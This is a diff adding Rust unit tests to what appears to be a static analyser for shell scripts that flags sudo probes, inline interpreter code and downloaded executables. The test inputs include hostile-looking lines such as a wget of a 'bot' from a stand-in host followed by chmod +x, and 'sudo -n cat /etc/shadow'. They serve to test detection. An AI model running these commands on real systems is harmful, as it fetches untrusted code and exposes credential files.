@@ -263,6 +263,85 @@ fn positional_parameters_count_and_list_the_arguments() {
 }
 
 #[test]
+fn quoted_all_arguments_stay_separate_words_and_shift_drops_the_first() {
+    let ctx = extract("f() { shift; python3 \"$@\"; }\nf x -c 'print(1)'\n");
+    let python = ctx
+        .shell
+        .calls
+        .iter()
+        .find(|c| c.name == "python3" && c.args.len() == 2)
+        .unwrap_or_else(|| panic!("{:?}", commands(&ctx)));
+    assert_eq!(python.args[0].text().as_deref(), Some("-c"));
+    assert_eq!(python.args[1].text().as_deref(), Some("print(1)"));
+    assert!(python.flags.iter().any(|f| f == super::INLINE_CODE_FLAG));
+}
+
+#[test]
+fn a_function_of_the_script_runs_instead_of_a_tool_of_the_same_name() {
+    let ctx = extract("chroot() { echo \"($debian_chroot)\"; }\nPS1=\"$(chroot) $ \"\n");
+    assert!(
+        !ctx.shell.calls.iter().any(|c| c.name == "@privilege"),
+        "{:?}",
+        ctx.shell.calls
+    );
+}
+
+#[test]
+fn a_sudo_that_runs_nothing_as_root_is_a_probe() {
+    for probe in [
+        "sudo -vn",
+        "sudo -n true",
+        "sudo -n id -u",
+        "sudo -n cat <<< x",
+        "sudo -k",
+    ] {
+        let ctx = extract(&format!("{probe}\n"));
+        assert!(
+            call(&ctx, "sudo").flags.iter().any(|f| f == super::PROBE_FLAG),
+            "{probe}"
+        );
+        assert!(!ctx.shell.calls.iter().any(|c| c.name == "@privilege"), "{probe}");
+    }
+    for not_probe in [
+        "sudo -v",
+        "sudo -n cat /etc/shadow",
+        "sudo -ns",
+        "sudo -S -n id",
+        "sudo rm x",
+    ] {
+        let ctx = extract(&format!("{not_probe}\n"));
+        assert!(
+            !call(&ctx, "sudo").flags.iter().any(|f| f == super::PROBE_FLAG),
+            "{not_probe}"
+        );
+    }
+}
+
+#[test]
+fn a_here_string_is_data_for_an_interpreter_given_its_code() {
+    let ctx = extract("awk -F@ '{print $2}' <<< \"$GEM_HOME\"\n");
+    assert!(
+        !ctx.shell.calls.iter().any(|c| c.name == "@opaque"),
+        "{:?}",
+        ctx.shell.calls
+    );
+    let ctx = extract("bash <<< \"$SCRIPT\"\n");
+    assert!(
+        ctx.shell.calls.iter().any(|c| c.name == "@opaque"),
+        "{:?}",
+        ctx.shell.calls
+    );
+}
+
+#[test]
+fn wget_of_a_url_writes_the_file_named_after_it() {
+    let ctx = extract("cd /tmp && wget http://x.example/bot && chmod +x bot\n");
+    let write = call(&ctx, "@write");
+    assert_eq!(write.args[0].text().as_deref(), Some("/tmp/bot"));
+    assert!(call(&ctx, "@chmod").taints.intersects(label("downloaded")));
+}
+
+#[test]
 fn a_recursive_function_is_followed_once() {
     let ctx = extract("f() { f \"$1\"; rm \"$1\"; }\nf /etc/x\n");
     assert!(commands(&ctx).contains(&"rm /etc/x".to_string()));
